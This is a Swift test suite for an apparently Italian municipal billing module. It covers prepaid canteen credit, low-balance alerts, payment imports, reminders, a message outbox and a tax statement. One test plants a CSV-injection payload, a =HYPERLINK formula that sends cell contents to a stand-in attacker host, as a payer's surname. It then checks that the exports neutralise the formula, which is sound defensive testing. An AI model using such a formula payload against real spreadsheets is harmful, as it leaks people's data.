import Foundation
import Testing
@testable import SpuntaBilling
import SpuntaDelivery
import SpuntaDomain
import SpuntaExchange
import SpuntaServerStore
import SpuntaStore

@Suite("Prepaid credit, payments, reminders, outbox, tax statement")
struct PrepaidAndPaymentsTests {
    static func messages(_ c: SmallComune, kind: String) throws -> Int {
        try c.queue.read { try $0.scalar("SELECT COUNT(*) FROM outbox_message WHERE kind = ?", [kind]) ?? 0 }
    }

    @Test("crossing below the threshold queues one alert per channel, once; again only after going back above")
    func threshold() throws {
        let c = try SmallComune()
        // PB's threshold is 10.00; P1 eats at 5.00 a meal on the prepaid canteen.
        try c.queue.write { db in
            try PrepaidLedger.topUp(db, payer: "PB", beneficiary: "P1", service: "MENSA-P", amount: Money(cents: 2000),
                                    date: LocalDate("2026-09-30")!, method: "pagopa", source: "t", actor: "t", now: SmallComune.now)
        }
        try c.merge(["2026-10-01", "2026-10-02"].map { c.meal("P1", $0, service: "MENSA-P") })
        _ = try c.run(SmallComune.october)
        #expect(try Self.messages(c, kind: "low_balance") == 0, "20 − 10 = 10.00: not below 10.00")
        try c.merge([c.meal("P1", "2026-10-05", service: "MENSA-P")])
        let report = try c.run(SmallComune.october)
        #expect(report.lowBalanceAlerts == 2, "5.00 < 10.00: one e-mail and one SMS")
        try c.merge(["2026-10-06", "2026-10-07"].map { c.meal("P1", $0, service: "MENSA-P") })
        _ = try c.run(SmallComune.october)
        #expect(try Self.messages(c, kind: "low_balance") == 2, "still below: no new alert")
        let balance = try c.queue.read { try PrepaidLedger.balances($0, belowOnly: false) }.first { $0.beneficiaryId == "P1" }
        #expect(balance?.balanceCents == -500)
        try c.queue.write { db in
            try PrepaidLedger.topUp(db, payer: "PB", beneficiary: "P1", service: "MENSA-P", amount: Money(cents: 5000),
                                    date: LocalDate("2026-10-08")!, method: "pagopa", source: "t", actor: "t", now: SmallComune.now)
        }
        try c.merge((12...23).filter { ![16, 17, 18].contains($0) }.map { c.meal("P1", "2026-10-\($0)", service: "MENSA-P") })
        _ = try c.run(SmallComune.october)
        #expect(try Self.messages(c, kind: "low_balance") == 4, "back above with the top-up, then below again: a second alert")
        // Re-running changes nothing: each meal is debited once.
        let movements = try c.queue.read { try $0.scalar("SELECT COUNT(*) FROM prepaid_movement") as Int? }
        _ = try c.run(SmallComune.october)
        #expect(try c.queue.read { try $0.scalar("SELECT COUNT(*) FROM prepaid_movement") as Int? } == movements)
    }

    func issuedOctober(_ c: SmallComune) throws -> [String: String] {
        try c.merge(c.goldenOctober())
        _ = try c.run(SmallComune.october)
        _ = try c.queue.write { db in try StatementDesk.issue(db, period: SmallComune.october, payer: nil, dueDate: LocalDate("2026-11-15"), actor: "t", now: SmallComune.earlyNovember) }
        var navs: [String: String] = [:]
        for s in try c.queue.read({ try StatementDesk.statements($0, period: SmallComune.october, payer: nil, status: "issued") }) {
            navs[s.payerId] = s.noticeNumber
        }
        return navs
    }

    @Test("payments reconcile notices: paid, partial, overpaid, paid twice, unknown, re-imported, and top-ups")
    func payments() throws {
        let c = try SmallComune()
        let nav = try issuedOctober(c)
        let csv = """
            date;amount;notice;kind;payer;beneficiary;service;method;reference
            2026-11-02;10.20;\(nav["PA"]!);notice;;;;pagopa;R1
            2026-11-03;100.00;\(nav["PB"]!);notice;;;;bank;R2
            2026-11-04;6.00;\(nav["PC"]!);notice;;;;pagopa;R3
            2026-11-05;10.20;\(nav["PA"]!);notice;;;;pagopa;R4
            2026-11-06;12.00;301999999999999999;notice;;;;pagopa;R5
            07/11/2026;25.00;;topup;PB;P1;MENSA-P;cash;R6
            """
        let path = c.path("pagamenti.csv")
        try Data(csv.utf8).write(to: URL(fileURLWithPath: path))
        let report = try c.queue.write { try PaymentImport.run($0, path: path, actor: "t", now: SmallComune.now) }
        #expect(report.lines.map(\.outcome) == ["paid", "partial", "overpaid", "already_paid", "unknown", "topup"])
        #expect(try c.statement("PA", SmallComune.october).paidCents == 1020)
        #expect(try c.statement("PB", SmallComune.october).paidCents == 10_000)
        // Importing the same file again applies nothing twice.
        let again = try c.queue.write { try PaymentImport.run($0, path: path, actor: "t", now: SmallComune.now) }
        #expect(again.lines.allSatisfy { $0.outcome == "duplicate" })
        #expect(try c.statement("PB", SmallComune.october).paidCents == 10_000)
    }

    @Test("a payments file with a bad line is refused whole, naming the line")
    func badPaymentsFile() throws {
        let c = try SmallComune()
        let nav = try issuedOctober(c)
        let csv = "date;amount;notice;kind;payer;beneficiary;service;method;reference\n2026-11-02;10.20;\(nav["PA"]!);notice;;;;pagopa;R1\n2026-13-40;abc;123;notice;;;;bitcoin;R2\n"
        let path = c.path("bad.csv")
        try Data(csv.utf8).write(to: URL(fileURLWithPath: path))
        do {
            _ = try c.queue.write { try PaymentImport.run($0, path: path, actor: "t", now: SmallComune.now) }
            Issue.record("a bad file must be refused")
        } catch let error as ImportError {
            #expect(error.problems.allSatisfy { $0.location.line == 3 })
            #expect(error.problems.count >= 3)
        }
        #expect(try c.statement("PA", SmallComune.october).paidCents == 0)
    }

    @Test("reminders: overdue notices get one reminder per round, a new round only after the grace days")
    func reminders() throws {
        let c = try SmallComune()
        _ = try issuedOctober(c)
        let asOf = LocalDate("2026-11-20")!
        let first = try c.queue.write { try Reminders.run($0, asOf: asOf, graceDays: 15, send: true, actor: "t", now: SmallComune.now) }
        #expect(first.count == 4)
        #expect(first.allSatisfy { $0.round == 1 })
        let queued = try Self.messages(c, kind: "reminder")
        #expect(queued == 8, "e-mail and SMS for each of the four payers")
        let soon = try c.queue.write { try Reminders.run($0, asOf: asOf, graceDays: 15, send: true, actor: "t", now: SmallComune.now.addingTimeInterval(86_400)) }
        #expect(soon.allSatisfy { $0.round == nil })
        let later = try c.queue.write { try Reminders.run($0, asOf: asOf, graceDays: 15, send: true, actor: "t", now: SmallComune.now.addingTimeInterval(16 * 86_400)) }
        #expect(later.allSatisfy { $0.round == 2 })
        #expect(try Self.messages(c, kind: "reminder") == 16)
    }

    @Test("the outbox sends each message once, retries a failing command, and never resends after a crash")
    func outbox() throws {
        let c = try SmallComune()
        _ = try issuedOctober(c)
        _ = try c.queue.write { try Reminders.run($0, asOf: LocalDate("2026-11-20")!, graceDays: 15, send: true, actor: "t", now: SmallComune.now) }
        let log = c.path("sent.log")
        var config = MessageSender.Configuration()
        config.emailCommand = "cat >> \(log); echo --- >> \(log)"
        config.smsCommand = "exit 3"
        let sender = MessageSender(queue: c.queue, configuration: config)
        let first = try sender.send(now: { SmallComune.now })
        #expect(first.sent == 4)
        #expect(first.retrying == 4)
        let text = try String(contentsOfFile: log, encoding: .utf8)
        #expect(text.components(separatedBy: "---").count - 1 == 4)
        #expect(text.contains("Subject: =?UTF-8?B?"))
        // Nothing is due again until the retry delay has passed; then the SMS are tried again, the e-mails never.
        #expect(try sender.send(now: { SmallComune.now }).sent == 0)
        var fixed = config
        fixed.smsCommand = "cat > /dev/null"
        let later = try MessageSender(queue: c.queue, configuration: fixed).send(now: { SmallComune.now.addingTimeInterval(3600) })
        #expect(later.sent == 4)
        #expect(try String(contentsOfFile: log, encoding: .utf8) == text)
        // A message left "sending" by a crash is not sent again: it becomes uncertain.
        try c.queue.write { db in
            try db.run("INSERT INTO outbox_message (dedup_key, kind, channel, recipient, subject, body, created_at, status) VALUES ('x', 'test', 'email', 'a@b.example', 's', 'b', '', 'sending')")
        }
        let crashed = try MessageSender(queue: c.queue, configuration: fixed).send(now: { SmallComune.now.addingTimeInterval(7200) })
        #expect(crashed.uncertain == 1)
        #expect(crashed.sent == 0)
    }

    @Test("a command that hangs is stopped and its message left uncertain; a chatty one is not stalled by its error output")
    func outboxCommandsMisbehaving() throws {
        let c = try SmallComune()
        _ = try issuedOctober(c)
        _ = try c.queue.write { try Reminders.run($0, asOf: LocalDate("2026-11-20")!, graceDays: 15, send: true, actor: "t", now: SmallComune.now) }
        var config = MessageSender.Configuration()
        config.commandTimeout = 1
        // 300 KB on the error output before succeeding: more than a pipe holds.
        config.emailCommand = "cat > /dev/null; head -c 300000 /dev/zero | tr '\\0' x >&2; exit 0"
        config.smsCommand = "cat > /dev/null; exec sleep 30"
        let started = Date()
        let report = try MessageSender(queue: c.queue, configuration: config).send(now: { SmallComune.now })
        #expect(report.sent == 4)
        #expect(report.uncertain == 4)
        #expect(report.retrying == 0)
        #expect(Date().timeIntervalSince(started) < 20)
        let uncertain: Int = try c.queue.read { try $0.scalar("SELECT COUNT(*) FROM outbox_message WHERE status = 'uncertain' AND channel = 'sms'") } ?? 0
        #expect(uncertain == 4)
        // Nothing uncertain is sent again by the next run.
        config.smsCommand = "cat > /dev/null"
        let again = try MessageSender(queue: c.queue, configuration: config).send(now: { SmallComune.now.addingTimeInterval(7200) })
        #expect(again.sent == 0)
    }

    @Test("the tax statement counts what was paid in the year by traceable means, not cash, within the caps")
    func taxStatement() throws {
        let c = try SmallComune()
        let nav = try issuedOctober(c)
        let csv = """
            date;amount;notice;kind;payer;beneficiary;service;method;reference
            2026-11-02;356.67;\(nav["PB"]!);notice;;;;bank;R1
            2026-11-07;25.00;;topup;PB;P1;MENSA-P;cash;R2
            2026-11-08;40.00;;topup;PB;P1;MENSA-P;pagopa;R3
            2027-01-10;10.20;\(nav["PA"]!);notice;;;;pagopa;R4
            """
        let path = c.path("p.csv")
        try Data(csv.utf8).write(to: URL(fileURLWithPath: path))
        _ = try c.queue.write { try PaymentImport.run($0, path: path, actor: "t", now: SmallComune.now) }
        let rows = try c.queue.read { try TaxStatement.rows($0, year: 2026) }
        // PB paid its October notice: 90.00 canteen (B1) and 266.67 nursery (N1); the cash top-up does not count.
        #expect(rows.map { "\($0.beneficiaryId) \($0.serviceId) \($0.paidCents)" }.sorted() == ["B1 MENSA-R 9000", "N1 NIDO 26667", "P1 MENSA-P 4000"])
        #expect(rows.allSatisfy { $0.deductibleCents == $0.paidCents })
        #expect(!rows.contains { $0.payerId == "PA" }, "paid in 2027")
        let csvOut = TaxStatement.csv(rows, year: 2026)
        #expect(csvOut.hasPrefix("anno;codice_fiscale_pagante"))
    }

    @Test("a payer named =HYPERLINK(…) reaches the tax statement and the notices' CSV as text, never as a live formula")
    func formulaNeutralised() throws {
        let c = try SmallComune()
        let nav = try issuedOctober(c)
        // The office's contacts spreadsheet renames PB: the text is not a control character, so the import takes it.
        let formula = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Rossi\")"
        var payersCSV = ["id;fiscal-code;surname;given-name"]
        for p in try c.queue.read({ try MasterDataStore.load($0) }).payers {
            let surname = p.id == "PB" ? formula : p.surname
            payersCSV.append("\(p.id);\(p.fiscalCode);\"\(surname.replacingOccurrences(of: "\"", with: "\"\""))\";\(p.givenName)")
        }
        let payers = c.path("payers.csv")
        try Data(payersCSV.joined(separator: "\n").utf8).write(to: URL(fileURLWithPath: payers))
        #expect(try MasterDataImporter.run(c.queue, paths: [payers]).updated["payers"] == 1)
        let payments = c.path("p.csv")
        try Data("date;amount;notice;kind;payer;beneficiary;service;method;reference\n2026-11-02;356.67;\(nav["PB"]!);notice;;;;bank;R1\n".utf8)
            .write(to: URL(fileURLWithPath: payments))
        _ = try c.queue.write { try PaymentImport.run($0, path: payments, actor: "t", now: SmallComune.now) }

        let tax = TaxStatement.csv(try c.queue.read { try TaxStatement.rows($0, year: 2026) }, year: 2026)
        let notices = try c.queue.read { try NoticeExport.csv($0, period: SmallComune.october) }
        for (name, csv) in [("tax", tax), ("notices", notices)] {
            let table = try CSVTable.parse(Data(csv.utf8), file: name).get()
            let cells = table.records.flatMap(\.fields)
            #expect(cells.contains { $0.hasPrefix("'=HYPERLINK(\"http://evil.example/") }, "\(name): \(csv)")
            #expect(!cells.contains { ["=", "+", "@", "\t", "\r"].contains($0.first.map(String.init) ?? "") }, "\(name): \(csv)")
            #expect(!csv.contains(";=HYPERLINK") && !csv.contains(";\"=HYPERLINK"), "\(name): \(csv)")
        }
    }

    @Test("a payment shared among lines in proportion adds up to the cent, largest remainders first")
    func allocation() {
        let parts = TaxStatement.allocate(1000, [("a", 1), ("b", 1), ("c", 1)])
        #expect(parts.map(\.1).reduce(0, +) == 1000)
        #expect(parts.map(\.1).sorted() == [333, 333, 334])
        let uneven = TaxStatement.allocate(35_667, [("canteen", 9000), ("nursery", 26_667)])
        #expect(uneven.map(\.1) == [9000, 26_667])
        let partial = TaxStatement.allocate(10_000, [("canteen", 9000), ("nursery", 26_667)])
        #expect(partial.map(\.1).reduce(0, +) == 10_000)
        #expect(partial.map(\.1) == [2523, 7477])
    }
}
